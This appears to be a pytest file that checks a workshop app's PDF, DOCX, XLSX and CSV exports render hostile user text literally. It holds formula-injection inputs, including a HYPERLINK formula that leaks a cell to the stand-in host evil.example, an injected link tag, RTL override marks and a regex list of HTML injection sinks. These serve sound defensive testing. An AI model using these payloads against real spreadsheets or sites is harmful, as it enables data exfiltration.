"""Every text is data (issue 14, part 1): awkward text in every field that reaches a document.

One world is built through the services, then every text field that reaches a document is
overwritten in the database with the corpus below — markup, entities, spreadsheet formulas, RTL
marks, emoji, NUL and other control characters the API would refuse, and 10,000 characters with
and without spaces. Every document the app makes is then fetched once through its real route:
minutes (PDF in both languages, DOCX), the raw data (XLSX, each CSV sheet, the zip), the roadmap
and the programme report. Each must be a 200 with the text printed as typed: never styled, never a
link, never a formula, never an error.
"""
from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from docx import Document
from docx.oxml.ns import qn
from openpyxl import load_workbook
from pypdf import PdfReader

from workshop.documents import safe

EVIL = "evil.example"
#: Short awkward strings, each printed as typed in every PDF and DOCX they reach.
MARKUP = [
    "R&D",
    "Pisco & vinos — Ica",
    "Exportaciones <2030",
    "<b>x</b>",
    f'<a href="http://{EVIL}/">enlace</a>',
    "<img src=x>",
    "<font size=80>grande</font>",
    "&amp; &lt; &#65; literal",
    "'simple' \"doble\" «angular»",
    "]]> <![CDATA[ --> <!--",
    "<para> </para> <br/> <seq/>",
]
#: What a spreadsheet would run as a formula if it began a cell.
FORMULAS = [
    f'=HYPERLINK("http://{EVIL}/?leak="&B2,"x")',
    "+1",
    "-2",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
RTL = "RTL \u202eevil\u202c and \u200fmark\u200e"
EMOJI = "Maíz 🌽 y Perú 🇵🇪 👩🏽‍🌾"
#: Characters XML cannot hold: stored directly in the database (the API refuses them).
CONTROLS = "Ctrl\x00NUL\x01\x02\x08\x0b\x0c\x0e\x1f\x7f end"
LONG_WORD = "W" * 10_000
LONG_TEXT = ("Texto largo & <b>marcado</b> " * 400)[:10_000]

MIX = " · ".join(MARKUP) + f" · {RTL} · {EMOJI}"
CORPUS = MARKUP + FORMULAS + [RTL, EMOJI, CONTROLS, LONG_WORD, LONG_TEXT, MIX]


def words(text: str) -> str:
    return " ".join(text.split())


def pdf_text(body: bytes) -> str:
    reader = PdfReader(io.BytesIO(body))
    return " ".join(words(page.extract_text()) for page in reader.pages)


def pdf_links(body: bytes) -> list[str]:
    """Every URI any annotation of the PDF points to."""
    reader = PdfReader(io.BytesIO(body))
    out = []
    for page in reader.pages:
        for annot in page.get("/Annots") or []:
            action = annot.get_object().get("/A")
            if action is not None and "/URI" in action:
                out.append(str(action["/URI"]))
    return out


def docx_text(body: bytes) -> str:
    doc = Document(io.BytesIO(body))
    parts = [doc.element.body]
    parts += [s.header._element for s in doc.sections] + [s.footer._element for s in doc.sections]
    paragraphs = ["".join(t.text or "" for t in p.iter(qn("w:t"))) for part in parts for p in part.iter(qn("w:p"))]
    return " ".join(" ".join(p.split()) for p in paragraphs if p.strip())


@pytest.fixture
def world(app, make_staff, token_for):
    """A programme, an initiative with four items, a closed session with every kind of record, each
    text field then overwritten with the corpus; returns (ids, staff headers, field values)."""
    from workshop.eventlog import Event
    from workshop.extensions import db
    from workshop.programmes import services as programmes
    from workshop.sessions import discussion
    from workshop.sessions import participants as room
    from workshop.sessions import services as sessions
    from workshop.sessions.models import Comment, Proposal
    from workshop.voting import services as voting
    from workshop.voting.models import Decision

    staff = make_staff("facilitator")
    programme = programmes.create_programme({"name": "P", "institution": "I"})
    initiative = programmes.create_initiative(programme, {"name": "I", "region": "R"})
    items = [programmes.create_item(initiative, {"kind": kind, "title": f"T{n}"})
             for n, kind in enumerate(("action_line", "policy_reform", "action_line", "policy_reform"))]
    session = sessions.create_session(initiative, phase_number=2, title="S", place="L", status="scheduled",
                                      facilitators=[staff], item_ids=[i.id for i in items], staff=staff)
    sessions.transition(session, "live")
    people = [sessions.join(session.join_code, name=f"N{n}", organisation=f"O{n}", sector=sector)[0]
              for n, sector in enumerate(("public", "public", "private", "private", "academic", "academic",
                                          "civil_society", "civil_society", "public"))]
    for method, anonymous in (("approve", False), ("score", True), ("approve", True)):
        round_ = voting.create_round(session, item_ids=[items[0].id], method=method, anonymous=anonymous)
        voting.open_round(round_)
        for n, person in enumerate(people):
            voting.cast_vote(person, round_.id, ("approve", "reject")[n % 2] if method == "approve" else 1 + n % 5,
                             f"{round_.id}-{n}")
        voting.close_round(round_)
    for method in ("dots", "ranking"):
        round_ = voting.create_round(session, item_ids=[i.id for i in items[:3]], method=method, dots=3,
                                     anonymous=False)
        voting.open_round(round_)
        for n, person in enumerate(people):
            value = {str(items[n % 3].id): 3} if method == "dots" else [i.id for i in items[:3]]
            voting.cast_vote(person, round_.id, value, f"{round_.id}-{n}")
        voting.close_round(round_)
    for n, person in enumerate(people):
        discussion.add_comment(person, f"C{n}", item_id=items[n % 2].id)
    proposals = [discussion.propose(person, "action_line", f"Pr{n}", "d") for n, person in enumerate(people[:4])]
    discussion.handle_proposal(session, proposals[0].id, accept=True, staff=staff)
    discussion.handle_proposal(session, proposals[1].id, accept=False, staff=staff)
    for n, item in enumerate(items):
        voting.record_decision(session, item, ("agreed", "rejected", "agreed", "deferred")[n], "r", staff=staff)
    voting.record_decision(session, items[0], "agreed", "r2", staff=staff)
    # A merge names the other item (its hostile title below) in the minutes, data and roadmaps.
    voting.record_decision(session, items[3], "merged", "m", staff=staff, into=items[2].id)
    room.remove(session, people[-1].id, "gone", staff=staff)
    room.correct_sector(session, people[-2].id, "academic", "sector", staff=staff)
    room.merge(session, people[0].id, people[-3].id, "twice", staff=staff)
    sessions.transition(session, "closed")

    # Every text field that reaches a document, overwritten behind the API's back.
    texts = iter(CORPUS * 20)
    used: dict[str, str] = {}

    def put(obj, field, value=None):
        value = next(texts) if value is None else value
        setattr(obj, field, value)
        used[f"{type(obj).__name__}.{field}"] = value

    # Names that make headings, the table of contents and the outline carry all the markup at once.
    put(programme, "name", MIX)
    put(programme, "institution", "Ministerio R&D <b>x</b> " + CONTROLS)
    put(programme, "description", LONG_TEXT + " " + CONTROLS)
    put(programme, "description_en", MIX)
    put(initiative, "name", "Pisco & vinos — Ica <b>x</b> " + RTL)
    put(initiative, "name_en", "Exportaciones <2030 " + EMOJI)
    put(initiative, "value_chain", FORMULAS[0])
    put(initiative, "value_chain_en", MIX)
    put(initiative, "region", CONTROLS)
    put(initiative, "summary", LONG_WORD)
    put(initiative, "summary_en", MIX)
    for phase in initiative.phases:
        put(phase, "name", MIX)
        put(phase, "name_en", MIX)
    put(session, "title", MIX)
    put(session, "place", "<font size=80>grande</font> " + CONTROLS)
    staff.name = f'<a href="http://{EVIL}/">Facilitadora</a> & R&D'
    for n, item in enumerate(initiative.items):
        if item.merged_into_id is None:
            item.status = ("agreed", "rejected", "agreed", "deferred", "candidate")[n % 5]
        item.horizon = ("short", "medium", None, "long", None)[n % 5]
        item.budget_pen = (1_000_000, None, 25_000, 7, None)[n % 5]
        put(item, "title", (MIX, FORMULAS[0], LONG_TEXT, CONTROLS + " <b>x</b>", EMOJI)[n % 5])
        put(item, "title_en", (MIX, RTL, LONG_WORD, MIX, MIX)[n % 5])
        put(item, "description", (LONG_TEXT, MIX, CONTROLS, LONG_WORD, MIX)[n % 5])
        put(item, "description_en", MIX)
        put(item, "axis", ("Eje R&D <i>x</i>", LONG_WORD, "Eje R&D <i>x</i>", CONTROLS, MIX)[n % 5])
        put(item, "axis_en", MIX)
        put(item, "lead_institution", (MIX, LONG_WORD, FORMULAS[1], CONTROLS, MIX)[n % 5])
        put(item, "partners", (LONG_TEXT, MIX, FORMULAS[2], MIX, CONTROLS)[n % 5])
        put(item, "indicator", (FORMULAS[3], MIX, LONG_WORD, CONTROLS, MIX)[n % 5])
        put(item, "indicator_en", MIX)
    # people[6] is merged into people[0] and people[8] removed: what they typed is in no document.
    names = [MIX, FORMULAS[0], FORMULAS[1], FORMULAS[2], FORMULAS[3], FORMULAS[4], "merged", FORMULAS[5], "gone"]
    orgs = [CONTROLS, LONG_WORD, MIX, FORMULAS[6], RTL, LONG_TEXT, "merged", EMOJI, "gone"]
    for n, person in enumerate(people):
        put(person.stakeholder, "name", names[n])
        put(person.stakeholder, "organisation", orgs[n])
    bodies = [MIX, FORMULAS[0], LONG_WORD, LONG_TEXT, CONTROLS, RTL, EMOJI, FORMULAS[3], "+1"]
    for n, comment in enumerate(db.session.scalars(db.select(Comment).order_by(Comment.id))):
        put(comment, "body", bodies[n % len(bodies)])
    for n, proposal in enumerate(db.session.scalars(db.select(Proposal).order_by(Proposal.id))):
        put(proposal, "title", (MIX, FORMULAS[0], LONG_WORD, CONTROLS)[n % 4])
        put(proposal, "description", MIX)
    for n, decision in enumerate(db.session.scalars(db.select(Decision).order_by(Decision.id))):
        put(decision, "reason", (MIX, FORMULAS[0], LONG_WORD + " " + LONG_TEXT, CONTROLS, "-2")[n % 5])
    for event in db.session.scalars(db.select(Event).where(Event.session_id == session.id)):
        data = dict(event.data or {})
        for key in ("reason", "title", "kept_name", "merged_name"):
            if key in data:
                data[key] = MIX + " " + CONTROLS if key == "reason" else FORMULAS[0]
        event.data = data
    db.session.commit()
    ids = {"session": session.id, "initiative": initiative.id, "programme": programme.id}
    return ids, token_for(make_staff("secretariat")), used


def test_every_document_prints_awkward_text_as_typed(client, world):
    ids, headers, _used = world
    session = f"/api/v1/sessions/{ids['session']}"
    urls = {
        "minutes-es": f"{session}/minutes.pdf?lang=es",
        "minutes-en": f"{session}/minutes.pdf?lang=en",
        "docx": f"{session}/minutes.docx",
        "xlsx": f"{session}/data.xlsx",
        "zip": f"{session}/data.zip",
        "roadmap-es": f"/api/v1/initiatives/{ids['initiative']}/roadmap.pdf?lang=es",
        "roadmap-en": f"/api/v1/initiatives/{ids['initiative']}/roadmap.pdf?lang=en",
        "report-es": f"/api/v1/programmes/{ids['programme']}/report.pdf?lang=es",
        "report-en": f"/api/v1/programmes/{ids['programme']}/report.pdf?lang=en",
    }
    urls.update({f"csv-{sheet}": f"{session}/data.csv?sheet={sheet}"
                 for sheet in ("participants", "votes", "comments", "decisions", "rounds")})
    bodies = {}
    for name, url in urls.items():
        response = client.get(url, headers=headers)
        assert response.status_code == 200, (name, response.data[:500])
        bodies[name] = response.data

    # PDFs: the markup is printed, never obeyed: no link, no tag swallowed.
    for name in ("minutes-es", "minutes-en", "roadmap-es", "roadmap-en", "report-es", "report-en"):
        body = bodies[name]
        assert not [uri for uri in pdf_links(body) if EVIL in uri], name
        text = pdf_text(body)
        for sample in MARKUP:
            assert words(sample) in text, (name, sample)
        assert "CtrlNUL end" in text, name  # the controls dropped, the rest printed
    for name in ("minutes-es", "minutes-en"):
        text = pdf_text(bodies[name])
        assert f'<a href="http://{EVIL}/">Facilitadora</a> & R&D' in text  # who recorded a decision
        assert "Texto largo & <b>marcado</b>" in text

    # DOCX: the same, and no character XML cannot hold.
    text = docx_text(bodies["docx"])
    for sample in MARKUP:
        assert words(sample) in text, sample
    assert LONG_WORD in text.replace(" ", "") and "Ctrl" in text

    # XLSX: the text as typed (less what XML cannot hold), never a formula.
    wb = load_workbook(io.BytesIO(bodies["xlsx"]))
    values, quoted = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    if cell.value.startswith(safe.FORMULA_STARTS):  # text, with Excel's own quote prefix
                        assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
                        quoted.append(cell.value)
                    values.append(cell.value)
    every = "\n".join(values)
    for sample in MARKUP + [LONG_WORD, RTL, EMOJI, "CtrlNUL end"]:
        assert sample in every, sample
    for sample in FORMULAS:  # as typed, neither dropped nor run
        assert any(value.startswith(sample) for value in quoted), sample

    # CSV, one sheet at a time and zipped: no cell a spreadsheet would run.
    with zipfile.ZipFile(io.BytesIO(bodies["zip"])) as archive:
        zipped = {name: archive.read(name) for name in archive.namelist()}
    cells = []
    for name, body in list(zipped.items()) + [(n, b) for n, b in bodies.items() if n.startswith("csv-")]:
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
        for row in rows:
            for cell in row:
                assert not cell.startswith(safe.FORMULA_STARTS), (name, cell[:80])
                assert not re.search(safe.XML_ILLEGAL.pattern, cell), (name, cell[:80])
                cells.append(cell)
    every = "\n".join(cells)
    for sample in MARKUP + [LONG_WORD, RTL, EMOJI, "'" + FORMULAS[0], "'+1", "'-2", "'@SUM(A1)"]:
        assert sample in every, sample



# --- The one path, piece by piece ------------------------------------------------------------------


def test_safe_text_drops_what_xml_cannot_hold_and_nothing_else():
    """Lone surrogates and U+FFFE/U+FFFF cannot even be stored (SQLite's UTF-8 refuses them), so
    they are checked here rather than through the database."""
    assert safe.text("a\x00b\x01\x08\x0b\x0c\x0e\x1f\x7fc\ud800d\udfffe\ufffef\uffffg") == "abcdefg"
    kept = "tab\tnewline\ncr\r RTL \u202e\u200f emoji 🌽 accents ñá — “quotes” <b>&amp;"
    assert safe.text(kept) == kept
    assert safe.text(None) == "" and safe.text(12) == "12"
    assert safe.markup('R&D <b>x</b> "q"') == 'R&amp;D &lt;b&gt;x&lt;/b&gt; "q"'
    assert safe.clip("x" * 300) == "x" * 254 + "…" and safe.clip(" a \n b ") == "a b"


def test_safe_cell_neutralises_formulas_and_leaves_numbers_alone():
    from openpyxl import Workbook

    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", f'=HYPERLINK("http://{EVIL}","x")'):
        assert safe.cell(text) == "'" + text  # CSV
    for value in (-2, 3.5, 0, None, "", "R&D", "1-2", "a=b", "'already"):
        assert safe.cell(value) == value
    ws = Workbook(write_only=True).create_sheet("s")
    formula_like = safe.cell("=1+1\x00", ws)  # XLSX: a string cell with Excel's quote prefix
    assert formula_like.value == "=1+1" and formula_like.data_type == "s" and formula_like.quotePrefix
    assert safe.cell(-2, ws) == -2 and safe.cell("plain\x01", ws) == "plain"
    assert len(safe.cell("x" * 40_000, ws)) == safe.XLSX_CELL_MAX


def test_safe_facts_cleans_every_string_of_nested_facts():
    import dataclasses

    @dataclasses.dataclass
    class Inner:
        name: str
        count: int

    @dataclasses.dataclass
    class Outer:
        title: str
        rows: list
        pairs: tuple
        labels: dict
        inner: Inner

    obj = Outer("T\x00", [["a\x01", 1, None]], (("k\x02", "v\x03"),), {"x\x04": "y\x05"}, Inner("n\x06", 3))
    assert safe.facts(obj) is obj
    assert (obj.title, obj.rows, obj.pairs, obj.labels, obj.inner) == (
        "T", [["a", 1, None]], (("k", "v"),), {"x": "y"}, Inner("n", 3))


# --- Pages: user text never becomes markup -----------------------------------------------------------


def test_pages_and_scripts_never_turn_text_into_markup():
    """The live pages build the DOM with createElement and textContent (static/js/live/dom.js);
    the templates rely on Jinja's autoescaping. Nothing may parse a string as HTML, and `|safe` is
    left only on the form macro's `attrs`, which its callers give as a literal."""
    from pathlib import Path

    root = Path(__file__).resolve().parent.parent
    html_sinks = re.compile(r"\.(innerHTML|outerHTML)\s*[+]?=|insertAdjacentHTML|document\.write|"
                            r"createContextualFragment|DOMParser|\bsrcdoc\b|new Function|\beval\(")
    for path in (root / "static" / "js").rglob("*.js"):
        for n, line in enumerate(path.read_text().splitlines(), start=1):
            assert not html_sinks.search(line), f"{path.relative_to(root)}:{n}: {line.strip()}"
    for path in (root / "templates").rglob("*.html"):
        text = path.read_text()
        assert "{% autoescape false" not in text, path
        for n, line in enumerate(text.splitlines(), start=1):
            if "|safe" in line or "| safe" in line:
                assert path.name == "_field.html" and "attrs|safe" in line, f"{path.relative_to(root)}:{n}"
            for match in re.finditer(r"\battrs=(\S)", line):
                assert match.group(1) in "'\"", f"{path.relative_to(root)}:{n}: attrs must be a literal"
    for path in (root / "workshop").rglob("*.py"):
        text = path.read_text()
        assert not re.search(r"\bMarkup\(|render_template_string", text), path.relative_to(root)
